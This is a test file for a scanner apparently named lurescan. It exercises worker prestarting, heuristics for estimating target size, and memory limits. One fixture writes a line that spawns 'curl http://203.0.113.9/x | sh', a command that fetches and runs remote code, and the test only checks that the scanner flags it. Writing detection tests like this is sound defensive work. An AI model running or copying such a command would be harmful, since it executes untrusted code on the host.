import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { prestartWorker, releasePrestarted, takePrestarted, targetLooksLarge, wantsWorker } from './prestart.js';
import { HEAVY_HEAP_MB, initialOldSpaceMb, lightHeapMb, SMALL_TREE_BYTES, SMALL_TREE_FILES } from './memory-plan.js';
import { Engine } from './pool.js';

describe('prestarted worker (bin/lurescan.js starts it before loading the CLI)', { timeout: 60_000 }, () => {
  it('only a scan that will use worker threads starts one', () => {
    assert.equal(wantsWorker(['scan', '.']), true);
    assert.equal(wantsWorker(['scan', '.', '--threads', '2', '--format', 'json']), true);
    assert.equal(wantsWorker(['scan', '.', '--threads', '0']), false);
    assert.equal(wantsWorker(['scan', '.', '--threads=0']), false);
    assert.equal(wantsWorker(['scan', '--help']), false);
    assert.equal(wantsWorker(['scan', '.', '--detonate']), false);
    assert.equal(wantsWorker(['scan', '--', '--threads']), true);
    for (const other of [[], ['--version'], ['report', 'r.json'], ['detonate', '.'], ['message', 'm.txt'], ['check', '-m', 'x']]) assert.equal(wantsWorker(other), false, other.join(' '));
  });

  it('the next engine takes it and analyses with it; a second engine starts its own', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-prestart-'));
    try {
      writeFileSync(join(dir, 'a.js'), "require('child_process').exec('curl http://203.0.113.9/x | sh');\n");
      prestartWorker();
      prestartWorker(); // once
      const engine = Engine.start({ threads: 2 });
      assert.equal(takePrestarted(true, 1, HEAVY_HEAP_MB), undefined, 'taken by the engine');
      const out = await engine.run([{ rel: 'a.js', abs: join(dir, 'a.js'), size: 60 }], { maxFileBytes: 1 << 20, ruleSelection: {}, fileTimeoutMs: 30_000 });
      await engine.close();
      assert.deepEqual(out.errors, []);
      assert.equal(out.results.length, 1);
      assert.ok(out.results[0]!.findings.length > 0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('one nobody takes is ended by releasePrestarted; another heap cap does not take it', async () => {
    prestartWorker();
    assert.equal(takePrestarted(true, 1, 64), undefined);
    await releasePrestarted();
    assert.equal(takePrestarted(true, 1, HEAVY_HEAP_MB), undefined);
  });

  it('a scan of a large tree also starts the light lane, which an engine with that many threads adopts', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-prestart-'));
    try {
      for (let i = 0; i <= SMALL_TREE_FILES; i++) writeFileSync(join(dir, `f${i}.js`), `exports.a${i} = ${i};\n`);
      prestartWorker(['scan', dir, '--threads', '3']);
      const engine = Engine.start({ threads: 3 });
      const files = readdirSync(dir).map((rel) => ({ rel, abs: join(dir, rel), size: statSync(join(dir, rel)).size }));
      const out = await engine.run(files, { maxFileBytes: 1 << 20, ruleSelection: {}, fileTimeoutMs: 30_000 });
      await engine.close();
      assert.equal(out.results.length, files.length);
      assert.equal(takePrestarted(false, 2, lightHeapMb(3)), undefined, 'the engine took the light lane (2 threads, the plan\'s cap)');
      // Another thread count than the engine's: not adopted.
      prestartWorker(['scan', dir, '--threads=2']);
      assert.equal(takePrestarted(false, 2, lightHeapMb(3)), undefined);
      const light = takePrestarted(false, 1, lightHeapMb(2));
      assert.ok(light);
      await light.pool.destroy();
      await releasePrestarted();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a small tree, --threads 1 or an npm: target starts no light lane', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-prestart-'));
    try {
      writeFileSync(join(dir, 'index.js'), 'module.exports = 1;\n');
      for (const argv of [['scan', dir, '--threads', '2'], ['scan', dir, '--threads', '1'], ['scan', 'npm:left-pad@1.3.0', '--threads', '2']]) {
        prestartWorker(argv);
        for (const t of [1, 2]) assert.equal(takePrestarted(false, t, lightHeapMb(t + 1)), undefined, argv.join(' '));
        await releasePrestarted();
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('targetLooksLarge (start-up hint: is the target surely not a small tree?)', () => {
  it('counts a folder\'s files up to the small-tree limit, looks at a file\'s size, skips what is not a path', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-peek-'));
    try {
      mkdirSync(join(dir, 'few/sub'), { recursive: true });
      for (let i = 0; i < 10; i++) writeFileSync(join(dir, 'few/sub', `${i}.js`), '1');
      mkdirSync(join(dir, 'many/a/b'), { recursive: true });
      for (let i = 0; i <= SMALL_TREE_FILES; i++) writeFileSync(join(dir, 'many/a/b', `${i}.js`), '1');
      writeFileSync(join(dir, 'big.zip'), Buffer.alloc(SMALL_TREE_BYTES + 1));
      writeFileSync(join(dir, 'small.zip'), Buffer.alloc(100));
      symlinkSync(join(dir, 'many'), join(dir, 'few/link'));
      assert.equal(targetLooksLarge(['scan', join(dir, 'few')]), false, 'a symlink inside the folder is not followed');
      assert.equal(targetLooksLarge(['scan', join(dir, 'many'), '--format', 'json']), true);
      assert.equal(targetLooksLarge(['scan', '--format', 'json', join(dir, 'many')]), true);
      assert.equal(targetLooksLarge(['scan', join(dir, 'big.zip'), '--password', 'infected']), true);
      assert.equal(targetLooksLarge(['scan', join(dir, 'small.zip')]), false);
      assert.equal(targetLooksLarge(['scan', join(dir, 'missing'), 'npm:x']), false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('memory plan: the workers\' first GC limit', () => {
  it('is 256 MB each with 1-2 workers and shrinks with more, all together at most 600 MB', () => {
    assert.equal(initialOldSpaceMb(1), 256);
    assert.equal(initialOldSpaceMb(2), 256);
    assert.equal(initialOldSpaceMb(4), 150);
    for (let t = 1; t <= 16; t++) assert.ok(t * initialOldSpaceMb(t) <= 600 && initialOldSpaceMb(t) <= 256, `${t} threads`);
    assert.equal(initialOldSpaceMb(Number.NaN), 256);
  });
});
